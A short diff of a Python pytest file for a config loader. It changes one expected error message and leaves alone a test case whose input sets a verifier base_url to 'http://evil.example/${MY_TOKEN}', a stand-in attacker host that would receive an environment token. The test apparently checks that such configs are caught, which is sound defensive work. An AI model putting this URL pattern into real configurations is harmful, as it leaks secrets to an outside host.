@@ -134,7 +134,7 @@ def test_config_lends_its_verifier_and_the_command_line_overrides_options(tmp_pa
 @pytest.mark.parametrize(
     ("text", "message"),
     [
-        ("models: {lead: {kind: lead}}\n", "names no verifier"),
+        ("models: {lead: {kind: lead}}\n", "has no verifier"),
         ('verifier: {kind: judge, model: m, base_url: "http://evil.example/${MY_TOKEN}"}\n', "MY_TOKEN"),
     ],
 )
